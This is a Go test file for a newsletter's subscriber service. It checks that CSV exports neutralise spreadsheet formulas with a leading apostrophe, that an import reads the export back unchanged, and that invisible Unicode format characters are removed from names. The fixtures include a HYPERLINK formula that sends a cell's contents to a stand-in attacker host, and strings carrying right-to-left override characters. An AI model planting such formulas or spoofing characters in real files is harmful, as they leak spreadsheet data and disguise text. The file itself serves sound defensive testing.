package subscription_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/heraldnews/herald/internal/model"
	"github.com/heraldnews/herald/subscription"
)

// An export opened in a spreadsheet runs no formula: every cell that
// starts with =, +, -, @, a tab or a carriage return is neutralised with a
// leading apostrophe (one that already starts with an apostrophe gets
// another), and an import reads the export back unchanged (issue 11,
// item 6).
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	names := []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1 555 0100", "-2+3", "@SUM(A1:A9)",
		"'quoted", "''twice", "plain name", "=1+1"}
	for i, name := range names {
		addr := []string{"a", "b", "c", "d", "e", "f", "g", "h"}[i] + "@example.com"
		e.subscriber(addr, name, model.SubscriberActive, nil, nil)
	}
	e.subscriber("-dash@example.com", "", model.SubscriberActive, nil, nil)
	e.subscriber("=eq@example.com", "", model.SubscriberActive, nil, nil)
	var first bytes.Buffer
	if err := e.svc.Export(ctx, &first); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(first.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if !strings.Contains(first.String(), `'=HYPERLINK(`) || !strings.Contains(first.String(), "'''twice") {
		t.Errorf("export:\n%s", first.String())
	}

	// Read back into a fresh database: the same subscribers, and the same
	// export byte for byte.
	f := newEnv(t)
	rep, err := f.svc.Import(ctx, bytes.NewReader(first.Bytes()))
	if err != nil || len(rep.Bad) != 0 {
		t.Fatalf("import of the export: %+v %v", rep, err)
	}
	for i, name := range names {
		addr := model.Address([]string{"a", "b", "c", "d", "e", "f", "g", "h"}[i] + "@example.com")
		if sub, ok, _ := f.store.FindSubscriber(ctx, addr); !ok || sub.Name != name {
			t.Errorf("%s: name %q after the round trip, want %q", addr, sub.Name, name)
		}
	}
	if _, ok, _ := f.store.FindSubscriber(ctx, "-dash@example.com"); !ok {
		t.Error("-dash@example.com lost in the round trip")
	}
	var second bytes.Buffer
	if err := f.svc.Export(ctx, &second); err != nil {
		t.Fatal(err)
	}
	if second.String() != first.String() {
		t.Errorf("export after import differs:\n%s\nfirst:\n%s", second.String(), first.String())
	}
}

// Invisible format characters (Unicode Cf) never reach a stored name,
// whether it comes from the form or a CSV row; an address with one is
// refused (issue 11, item 8).
func TestFormatCharactersRemovedFromNames(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	sub, _, err := e.svc.Subscribe(ctx, subscription.Request{Email: "ann@example.com", Name: "Ann\u202e \u200bLee\u2066", Confirmed: true})
	if err != nil || sub.Name != "Ann Lee" {
		t.Fatalf("form name %q, %v", sub.Name, err)
	}
	if _, err := e.svc.Import(ctx, strings.NewReader("bob@example.com,Bob\u202eeoR,daily,,,active\nrtl\u202e@example.com,,daily,,,active\n")); err != nil {
		t.Fatal(err)
	}
	if b, ok, _ := e.store.FindSubscriber(ctx, "bob@example.com"); !ok || b.Name != "BobeoR" {
		t.Errorf("imported name %q", b.Name)
	}
	if _, _, err := e.svc.Subscribe(ctx, subscription.Request{Email: "admin\u202e@example.com"}); model.ErrorCode(err) != model.EINVALID {
		t.Errorf("an address with U+202E: %v", err)
	}
}
